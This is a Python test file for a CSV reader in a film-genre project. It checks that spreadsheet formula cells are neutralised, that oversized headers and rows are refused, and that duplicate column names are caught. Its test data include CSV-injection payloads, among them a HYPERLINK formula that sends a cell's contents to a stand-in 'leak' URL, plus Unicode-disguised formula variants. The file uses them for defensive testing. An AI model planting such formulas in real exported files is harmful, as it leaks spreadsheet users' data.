"""The films CSV as text: bounded reading (issue 33, items 5 and 11) and inert cells (item 9)."""
from __future__ import annotations

import io

import pytest

from genre_models.data.csv_text import (MAX_COLUMNS, MAX_HEADER_CHARS, MAX_RECORD_CHARS, CsvRecords, inert_cell,
                                        plain_cell)
from genre_models.errors import DataError

HEADER = "id,title,year,genres,plot,poster\n"
FORMULAS = ['=HYPERLINK("http://x/leak?x="&A1,"details")', "+1+1", "@SUM(1,1)", "-2+3", "\t=1+1", "\r=1+1",
            "\n=1", "\0=1", "  =1+1", "\u200b=1+1", "\ufeff@SUM(1)", "\uff1d1+1", "\uff0b1", "\ufe6bSUM(1)", "-",
            "=", "\x01=1"]
PLAIN = ["f1", "The Kid", "0.500000", "Horror|Comedy", "", "a plot - with a dash", "'quoted", "1+1", "tt0012349"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_cell_a_spreadsheet_would_run_starts_with_a_quote_and_reads_back_as_it_was(cell):
    assert inert_cell(cell) == "'" + cell
    assert inert_cell(inert_cell(cell)) == inert_cell(cell)  # written twice, still one quote
    assert plain_cell(inert_cell(cell)) == cell


@pytest.mark.parametrize("cell", PLAIN)
def test_plain_text_is_written_and_read_as_it_is(cell):
    assert inert_cell(cell) == cell and plain_cell(cell) == cell


def test_none_and_numbers_are_cells_too():
    assert inert_cell(None) == "" and inert_cell(0.25) == "0.25" and inert_cell(-1) == "'-1"


def _records(text: str) -> CsvRecords:
    return CsvRecords(io.StringIO(text, newline=""))


@pytest.mark.parametrize("header, message", [
    (",".join(f"c{i}" for i in range(100_000)), f"line 1: the header is over {MAX_HEADER_CHARS:,} characters; "
                                                f"the limits are {MAX_COLUMNS} columns and {MAX_HEADER_CHARS:,}"),
    ("id,genres,plot," + ",".join(f"c{i}" for i in range(MAX_COLUMNS)), f"line 1: the header has "
                                                                       f"{MAX_COLUMNS + 3} columns; the limits are"),
    ("id,genres,plot," + "x" * MAX_HEADER_CHARS, "line 1: the header is over"),
    ('id,genres,"plot\n' + "x\n" * MAX_HEADER_CHARS, "line 1: the header is over"),  # a quote never closed
    ("id," + "," * 100_000, "line 1: the header is over"),  # empty names count too
])
def test_an_absurd_header_is_refused_in_one_line_naming_the_limits(header, message):
    with pytest.raises(DataError) as error:
        _records(header + "\nf1,Drama,a plot\n")
    assert str(error.value).startswith(message) and "\n" not in str(error.value)
    assert "GenreLens reads id,title,year,genres,plot,poster" in str(error.value)


def test_a_header_at_the_limits_is_read():
    names = ["id", "genres", "plot"] + [f"c{i}" for i in range(MAX_COLUMNS - 3)]
    records = _records(",".join(names) + ",,\nf1,Drama,a plot\n")  # a stray delimiter is not a column
    assert records.header == names and records.columns == ["id", "genres", "plot"]
    assert [(line, records.pick(cells)) for line, cells in records] == [
        (2, {"id": "f1", "genres": "Drama", "plot": "a plot"})]


@pytest.mark.parametrize("header, named", [
    ("id,title,year,genres,plot,poster,genres,plot", "'genres', 'plot'"),
    ("id, genres ,plot,genres", "'genres'"),  # the same name once stripped
    ("id,genres,plot,notes,notes", "'notes'"),  # a column GenreLens ignores is still ambiguous to a reader
    # the same name as a person reads it: case, full-width letters, an invisible character inside it
    ("id,title,year,genres,plot,poster,GENRES", "'genres'"),
    ("id,title,year,genres,plot,poster,\uff47\uff45\uff4e\uff52\uff45\uff53", "'genres'"),
    ("id,title,year,genres,plot,poster,ge\u200bnres", "'genres'"),
    ("id,title,year,genres,plot,poster,\ufeffgenres", "'genres'"),
])
def test_a_repeated_column_name_is_refused_naming_it(header, named):
    with pytest.raises(DataError, match=rf"^line 1: column name\(s\) {named} appear more than once; name each"):
        _records(header + "\nf1,Drama,a plot\n")


def test_a_column_name_is_read_as_a_person_reads_it():
    """A byte-order mark (even two), upper case or full-width letters do not hide a column GenreLens reads."""
    records = _records("\ufeff\ufeffID,\uff27enres, Plot \nf1,Drama,a plot\n")
    assert records.columns == ["id", "genres", "plot"]


def test_empty_column_names_may_repeat():
    assert _records("id,,genres,,plot\nf1,x,Drama,y,a plot\n").header == ["id", "", "genres", "", "plot"]


@pytest.mark.parametrize("row", [
    "f2,Drama," + "ab," * (MAX_RECORD_CHARS // 3 + 1),  # a million short cells on one line
    "f2,Drama," + '"a\nb",' * (MAX_RECORD_CHARS // 6 + 1),  # many short cells over many lines
    'f2,Drama,"a plot' + "\nmore" * (MAX_RECORD_CHARS // 5),  # a quote never closed: csv's field limit first
    "f2,Drama," + "x" * (MAX_RECORD_CHARS + 1),  # one line, no newline at all
])
def test_a_row_past_the_bound_is_refused_by_its_line(row):
    records = _records(HEADER + "f1,A,,Drama,a plot,\n" + row)
    rows = iter(records)
    assert next(rows)[0] == 2
    with pytest.raises(DataError, match=rf"^line 3: (a row longer than {MAX_RECORD_CHARS:,} characters "
                                        r"|not readable as CSV \(field larger than field limit)"):
        next(rows)


def test_a_row_at_the_bound_is_read_and_lines_count_across_quoted_newlines():
    header = HEADER.strip() + "".join(f",n{i}" for i in range(10)) + "\n"
    record = 'f1,A,,Drama,"a plot\n",'
    filler = ("," + "y" * 99_999) * 10  # cells under csv's own limit (131,072 characters) each
    record += filler[:MAX_RECORD_CHARS - len(record) - 1] + "\n"
    assert len(record) == MAX_RECORD_CHARS
    records = _records(header + record + 'f2,B,,Drama,"two\nlines",\nf3,C,,Drama,p,\n')
    assert [(line, records.pick(cells)["plot"]) for line, cells in records] == [
        (2, "a plot\n"), (4, "two\nlines"), (6, "p")]
    with pytest.raises(DataError, match="^line 2: a row longer than"):  # one character more
        list(_records(header + record.replace("y", "yy", 1)))


def test_only_the_columns_genrelens_reads_are_picked_and_a_short_row_leaves_none():
    records = _records("notes,id,genres,extra,plot\nn,f1,'+1,e\n")
    assert records.columns == ["id", "genres", "plot"]
    assert [records.pick(cells) for _, cells in records] == [{"id": "f1", "genres": "+1", "plot": None}]
